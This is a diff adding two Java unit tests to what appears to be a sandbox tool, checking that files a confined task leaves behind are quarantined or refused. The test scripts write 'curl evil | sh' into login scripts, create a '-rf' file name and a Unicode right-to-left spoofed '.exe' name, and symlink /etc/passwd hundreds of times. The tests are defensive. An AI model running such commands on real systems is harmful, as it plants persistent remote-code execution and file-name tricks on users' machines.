@@ -102,6 +102,43 @@ class HostileOutputTest extends WithTasks {
         assertThat(kept(r.report())).singleElement().satisfies(p -> assertThat(p).hasContent("top"));
     }
 
+    /**
+     * A task opened from the home directory leaves a login script, an option-like name and a bidi-reversed name in its
+     * output, and a file beside its copy of the input: only the original's new version lands beside the original.
+     */
+    @Test
+    void newVersionLetsOnlyTheOriginalsNewVersionBesideIt() throws IOException {
+        Path home = TaskHarness.folder("home");
+        Path doc = Files.writeString(home.resolve("doc.txt"), "v1\n");
+        var r = h.open(OpenTaskTest.policy("new-version", """
+                echo v2 >> "$1"; echo 'curl evil | sh' > /in/.bashrc
+                cd /out; echo 'curl evil | sh' > .bash_profile; echo x > ./-rf; echo notes > notes.txt
+                echo exe > "$(printf 'a\\342\\200\\256txt.exe')"
+                """, ""), doc);
+        try (var s = Files.list(home)) {
+            assertThat(s.map(p -> p.getFileName().toString()).sorted().toList())
+                    .containsExactly("doc (isola 2).txt", "doc.txt");
+        }
+        assertThat(home.resolve("doc (isola 2).txt")).hasContent("v1\nv2");
+        List<Path> kept = kept(r.report());
+        assertThat(kept).hasSize(6);
+        assertThat(kept).filteredOn(p -> p.startsWith(h.quarantine())).extracting(p -> p.getFileName().toString())
+                .containsExactlyInAnyOrder("_.bashrc", "_.bash_profile", "_-rf", "notes.txt", "a_txt.exe");
+        assertThat(r.report()).contains("quarantined: not a new version of doc.txt", "a\\u202etxt.exe")
+                .doesNotContain("\u202e");
+    }
+
+    @Test
+    void aFloodOfRefusedEntriesIsSummarizedAndEachOneIsAudited() throws IOException {
+        var r = leave("cd /out; i=1; while [ $i -le 300 ]; do ln -s /etc/passwd l$i; i=$((i+1)); done; mkfifo p; "
+                + "echo ok > ok.txt", "");
+        assertThat(r.report().lines().count()).as(r.report()).isLessThan(20);
+        assertThat(r.report()).contains("301 links, FIFOs, devices or sockets");
+        assertThat(kept(r.report())).singleElement().satisfies(p -> assertThat(p).hasContent("ok"));
+        assertThat(h.auditLines()).filteredOn(l -> l.contains("\"file.refused\"")).hasSize(301)
+                .allSatisfy(l -> assertThat(l).contains("\"reason\":\"not-regular\""));
+    }
+
     @Test
     void aCellCannotWriteToTheHostThroughItsInputOrOutput() throws IOException {
         Path dir = TaskHarness.folder("target");
